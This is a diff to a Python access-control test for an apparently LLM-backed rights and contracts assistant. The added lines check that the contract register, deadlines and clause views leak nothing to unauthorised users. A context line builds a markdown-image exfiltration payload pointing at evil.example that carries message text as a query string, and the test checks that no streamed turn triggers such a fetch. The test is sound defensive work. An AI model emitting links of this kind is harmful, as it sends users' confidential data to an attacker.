@@ -23,6 +23,8 @@ from test_security import fetches
 from assistant import audit
 from assistant.answer.answering import Source
 from assistant.auth import Users
+from assistant.contracts_view import clause_html, deadlines_html
+from assistant.register import register_rows
 from assistant.service import RightsService
 from assistant.settings import LLMSettings, Settings
 from assistant.ui import ChatSession, documents_rows, sources_html
@@ -155,13 +157,20 @@ def test_nobody_receives_a_marker_they_may_not_see(world, fast_embedder, fake):
                                              + " ![c][r] [1]\n\n[r]: //evil.example/p.png?d=" + body["messages"][1]["content"][:80].replace("\n", " ")))
     registry = Users({u: {"password": "-", "groups": g} for u, g in users.items()})
     codes = sorted(oracle)
-    checked = 0
+    checked = registered = 0
     with RightsService(chat_settings, embedder=fast_embedder) as svc:
         session = ChatSession(svc, users=registry)
         for user, groups in users.items():
             view = session.view(user)
             rows = documents_rows(view)
             assert not leaks([rows], oracle, groups), (user, groups)
+            # the register, its deadlines and every clause it can open: key terms are document text too
+            register = register_rows(view)
+            contracts = [json.dumps([r.cells for r in register]), json.dumps([r.terms.as_dict() for r in register]),
+                         deadlines_html(view, 100_000)]
+            contracts += [clause_html(view, r.family, column) for r in register for column in r.cells]
+            assert not leaks(contracts, oracle, groups), (user, groups, "register")
+            registered += len(register)
             for _ in range(3):
                 code = rng.choice(codes)
                 question = rng.choice([f"What is the royalty for {code}?", f"Who wrote {rng.choice(SHARED_ISWCS)}?",
@@ -180,6 +189,7 @@ def test_nobody_receives_a_marker_they_may_not_see(world, fast_embedder, fake):
                 assert not any(fetches(t) for t in streamed), "a streamed turn would make the browser fetch"
                 checked += 1
     assert checked == 3 * len(users)
+    assert registered, "no contract reached the register: the register check above proved nothing"
 
 
 def test_uploads_report_and_list_only_what_the_uploader_may_see(world, fast_embedder, tmp_path):
